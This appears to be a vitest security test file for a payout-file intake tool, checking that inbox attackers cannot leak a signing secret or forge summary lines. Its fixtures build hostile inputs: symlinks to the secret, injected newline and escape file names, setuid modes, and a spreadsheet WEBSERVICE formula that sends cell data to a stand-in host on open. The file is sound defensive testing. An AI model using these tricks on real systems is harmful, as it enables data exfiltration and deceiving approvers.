/** An attacker who can write only to the inbox gets neither a file that only we may read nor a file of ours. */
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { intakeStep, submitFile } from "../../src/index.ts";
import { openPlace } from "../site/workplace.ts";
import { workbook } from "./workbook-fixture.ts";

const HEADER = "reference,accountId,currency,amount,destinationAddress\n";

function payment(reference: string): string {
  return `${HEADER}${reference},treasury-btc,BTC,0.01,bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4\n`;
}

/** A place with an inbox, and a secret that only its owner may read. */
function openInbox() {
  const { folder, workplace } = openPlace();
  const inbox = join(folder, "inbox");
  mkdirSync(inbox);
  const secret = join(folder, "signing-secret");
  writeFileSync(secret, "Rows: 1\nthe-signing-secret-itself\n");
  return { folder, workplace, inbox, secret };
}

/** Every byte below these folders. */
function written(folder: string, ...names: readonly string[]): string {
  return names
    .map((name) => join(folder, name))
    .filter((path) => existsSync(path))
    .flatMap((path) => readdirSync(path, { withFileTypes: true, recursive: true }))
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"))
    .join("\n");
}

describe("a totals file", () => {
  test("that is a link, a folder or a pipe is not followed: its payout file waits, and is told", async () => {
    const { folder, workplace, inbox, secret } = openInbox();
    for (const name of ["a.csv", "b.csv", "c.csv", "d.csv"])
      writeFileSync(join(inbox, name), payment(name.slice(0, 1)));
    symlinkSync(secret, join(inbox, "a.totals.txt"));
    mkdirSync(join(inbox, "b.totals.csv"));
    execFileSync("mkfifo", [join(inbox, "c.totals.csv")]);
    const { files, waiting, problems } = await intakeStep(workplace);
    expect(files).toMatchObject([{ file: "d.csv", verdict: "accepted" }]);
    expect(waiting).toEqual([
      { file: "a.csv", why: "a.totals.txt: it is a link, and only files are taken" },
      { file: "b.csv", why: "b.totals.csv: it is a folder, and only files are taken" },
      { file: "b.totals.csv", why: "it is a folder, and only files are taken" },
      { file: "c.csv", why: "c.totals.csv: it is a pipe or a device, and only files are taken" },
    ]);
    expect(problems.map(({ file }) => file)).toEqual(["a.totals.txt", "c.totals.csv"]);
    expect(written(folder, "outbox", "archive")).not.toContain("the-signing-secret");
    expect(readdirSync(join(folder, "work"))).toEqual([]);
  });

  test("that is a link beside a file handed in by a person is refused with its name", async () => {
    const { folder, workplace, inbox, secret } = openInbox();
    const path = join(inbox, "payroll.csv");
    writeFileSync(path, payment("PAY-1"));
    symlinkSync(secret, join(inbox, "payroll.totals.txt"));
    await expect(submitFile(workplace, path, "ann")).rejects.toMatchObject({
      problem: { code: "INBOX_ENTRY_NOT_A_FILE", file: "payroll.totals.txt" },
    });
    expect(written(folder, "outbox", "archive")).not.toContain("the-signing-secret");
  });
});

test("what is archived has the mode of our own files, not the sender's: nobody may write to it, or run it as its owner", async () => {
  const { folder, workplace, inbox } = openInbox();
  for (const [name, content] of [
    ["a.csv", payment("PAY-1")],
    ["a.totals.csv", "Rows: 1\n"],
    ["b.csv", "\x7fELF no table"],
  ] as const) {
    writeFileSync(join(inbox, name), content);
    chmodSync(join(inbox, name), 0o6777);
  }
  const { files } = await intakeStep(workplace);
  expect(files.map(({ verdict }) => verdict)).toEqual(["accepted", "rejected"]);
  const ours = statSync(join(folder, "outbox", "a.accepted.csv")).mode;
  const archived = readdirSync(join(folder, "archive"));
  expect(archived).toHaveLength(3);
  for (const name of archived) expect(statSync(join(folder, "archive", name)).mode).toBe(ours);
});

test("a file's name adds no line to the summary that its approver reads", async () => {
  const { folder, workplace, inbox } = openInbox();
  writeFileSync(join(inbox, "a\nDigest awaiting approval: 00\u001b[31m.csv"), payment("PAY-1"));
  writeFileSync(join(inbox, "b\nBatch: B-000009.csv"), "nothing");
  await intakeStep(workplace);
  const texts = readdirSync(join(folder, "outbox")).filter((name) => name.endsWith(".txt"));
  expect(texts).toHaveLength(2);
  const lines = texts.flatMap((name) => readFileSync(join(folder, "outbox", name), "utf8").split("\n"));
  expect(lines.filter((line) => /^ *(Digest|Batch)\b/.test(line))).toHaveLength(2);
  expect(lines.join("")).not.toContain("\u001b");
});

test("a file too large to be read is told, stays, and is not copied to where it would fill the disk", async () => {
  const { folder, workplace, inbox } = openInbox();
  for (const name of ["a.csv", "b.csv", "c.csv"]) writeFileSync(join(inbox, name), payment(name.slice(0, 1)));
  writeFileSync(join(inbox, "b.totals.csv"), "Rows: 1\n");
  for (const name of ["a.csv", "b.totals.csv"]) truncateSync(join(inbox, name), 1_000_000_000);
  const { files, waiting, problems } = await intakeStep(workplace);
  expect(files).toMatchObject([{ file: "c.csv", verdict: "accepted" }]);
  expect(waiting).toEqual([
    { file: "b.csv", why: expect.stringMatching(/^b\.totals\.csv: the file has 1000000000 bytes/) },
  ]);
  expect(problems).toMatchObject(["a.csv", "b.totals.csv"].map((file) => ({ code: "FILE_TOO_LARGE", file })));
  await expect(submitFile(workplace, join(inbox, "a.csv"), "ann")).rejects.toMatchObject({
    problem: { code: "FILE_TOO_LARGE", file: "a.csv" },
  });
  expect(readdirSync(join(folder, "archive"))).toHaveLength(1);
});

describe("nothing is taken", () => {
  test("out of an inbox in which the database lies", async () => {
    const { folder, workplace } = openPlace({ PAYDROP_FOLDERS_INBOX: "." });
    expect(await intakeStep(workplace)).toMatchObject({
      files: [],
      problems: [{ code: "CONFIG_KEY_INVALID", key: "folders.inbox" }],
    });
    expect(readdirSync(folder)).toEqual(
      expect.arrayContaining(["paydrop.yaml", "payouts.csv", "chart-of-accounts.csv"]),
    );
  });

  test("out of a sender's folder that somebody put a link in the place of, and everything out of the others", async () => {
    const { folder, workplace } = openPlace({
      PAYDROP_FILES_SENDERS: "[{ name: acme, folder: inbox/acme }, { name: beta, folder: inbox/beta }]",
    });
    mkdirSync(join(folder, "inbox", "beta"), { recursive: true });
    writeFileSync(join(folder, "inbox", "beta", "b.csv"), payment("PAY-2"));
    mkdirSync(join(folder, "elsewhere"));
    writeFileSync(join(folder, "elsewhere", "a.csv"), payment("PAY-1"));
    symlinkSync(join(folder, "elsewhere"), join(folder, "inbox", "acme"));
    const { files, problems } = await intakeStep(workplace);
    expect(files).toMatchObject([{ file: "beta/b.csv", verdict: "accepted" }]);
    expect(problems.at(-1)).toMatchObject({ code: "CONFIG_KEY_INVALID", key: "files.senders.0.folder" });
    expect(readdirSync(join(folder, "elsewhere"))).toEqual(["a.csv"]);
  });
});

test("a workbook that would send something as soon as it is opened comes back as words, not as a workbook", async () => {
  const { folder, workplace } = openInbox();
  const cells = (line: number, texts: readonly string[]) =>
    texts
      .map((text, index) => `<c r="${"ABC"[index]}${line}" t="inlineStr"><is><t>${text}</t></is></c>`)
      .join("");
  const formula = '<c r="D2" t="str"><f>_xlfn.WEBSERVICE("https://x.example/?"&amp;C2)</f><v/></c>';
  const rows = [
    `<row r="1">${cells(1, ["reference", "amount", "destinationAddress"])}</row>`,
    `<row r="2">${cells(2, ["SENDS-1", "0.01", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"])}${formula}</row>`,
  ];
  const path = join(folder, "sends.xlsx");
  writeFileSync(path, workbook({ sheets: [{ name: "Payouts", rows: rows.join("") }] }));
  expect(await submitFile(workplace, path, "alice")).toMatchObject({
    verdict: "refused",
    problems: [{ code: "WORKBOOK_IS_ACTIVE", cell: "D2" }],
  });
  expect(readdirSync(join(folder, "outbox"))).toEqual(["sends.rejected.xlsx.txt"]);
});
